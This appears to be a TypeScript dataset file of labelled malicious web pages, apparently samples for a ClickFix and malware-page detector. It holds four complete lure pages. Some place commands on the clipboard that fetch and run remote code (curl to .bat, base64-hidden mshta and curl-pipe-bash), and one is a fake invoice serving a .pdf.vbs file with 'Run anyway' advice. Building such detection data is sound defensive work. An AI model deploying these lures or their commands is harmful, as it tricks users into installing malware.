import type { Entry } from '../entry.js';

/** More ClickFix, malware delivery and scam pages (families that were thin in one split). */
export const entries: Entry[] = [
  {
    id: 'clickfix-discord-verify-bot',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://discord-verify-member.gg-auth.com/verify/8812',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Verify | Discord Server Verification</title></head>
<body style="background:#313338;color:#fff;font-family:gg sans,Arial"><div style="width:480px;margin:100px auto;background:#2b2d31;border-radius:8px;padding:30px;text-align:center"><h2>Verify to join the server</h2><p>Complete the human check to access #general.</p>
<button id="b" style="background:#5865f2;color:#fff;border:0;border-radius:4px;padding:12px 30px">Verify</button><p id="t" hidden>Open Run (⊞ Win + R), paste with Ctrl + V and press Enter. Then come back and click Done.</p></div>
<script>b.onclick=function(){navigator.clipboard.writeText("cmd /c \\"curl -sL https://gg-auth.com/v.bat -o %TEMP%\\\\v.bat && %TEMP%\\\\v.bat\\"");t.hidden=false;};</script></body></html>`,
  },
  {
    id: 'clickfix-pdf-viewer-error',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://docsend-viewer.cloud-preview.site/v/annual-report',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Annual_Report_2026.pdf</title></head>
<body style="font-family:Segoe UI;background:#525659"><div style="width:500px;margin:100px auto;background:#fff;padding:30px"><h3>Unable to render document</h3><p>The PDF font package failed to load. Follow the steps to fix:</p>
<ol><li>Press the Windows key + R</li><li>Press Ctrl + V to paste the fix</li><li>Press Enter and wait</li></ol><input type="checkbox" id="c"> <label for="c">I understand, copy the fix</label></div>
<script>document.getElementById('c').addEventListener('change',()=>{const s=atob('bXNodGEgaHR0cHM6Ly9jbG91ZC1wcmV2aWV3LnNpdGUvZm9udC5odGE=');navigator.clipboard.writeText(s+'  # PDF font fix');});</script></body></html>`,
  },
  {
    id: 'clickfix-wsl-macos-curl-osascript',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://app-store-verify.macupdate-help.com/check',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Apple Security Check</title></head>
<body style="font-family:-apple-system;background:#fff;text-align:center"><div style="width:520px;margin:100px auto"><h2>Verify your Mac</h2><p>To continue downloading, verify your Mac is not infected. Open Terminal (⌘ + Space, type Terminal), paste and press Return.</p>
<pre id="cmd" style="background:#f5f5f7;padding:10px;text-align:left;white-space:pre-wrap">echo "Y3VybCAtZnNTTCBodHRwczovL21hY3VwZGF0ZS1oZWxwLmNvbS9zLnNoIHwgYmFzaA==" | base64 -d | bash</pre><button onclick="navigator.clipboard.writeText(document.getElementById('cmd').textContent)">Copy</button></div></body></html>`,
  },
  {
    id: 'malware-fake-invoice-vbs',
    label: 'malware',
    kind: 'malware-download',
    url: 'https://invoice-docs-center.com/inv/INV-77120',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Invoice INV-77120</title></head>
<body style="font-family:Arial;padding:60px"><h2>Invoice INV-77120 is ready</h2><p>Amount due: €3,912.40. Due date: 30 November 2026.</p><p><a href="https://invoice-docs-center.com/dl/INV-77120.vbs" download="INV-77120.pdf.vbs">Download invoice (PDF)</a></p>
<p style="font-size:12px;color:#666">If Windows shows a warning, click "More info" then "Run anyway" — the file is signed.</p></body></html>`,
  },
];
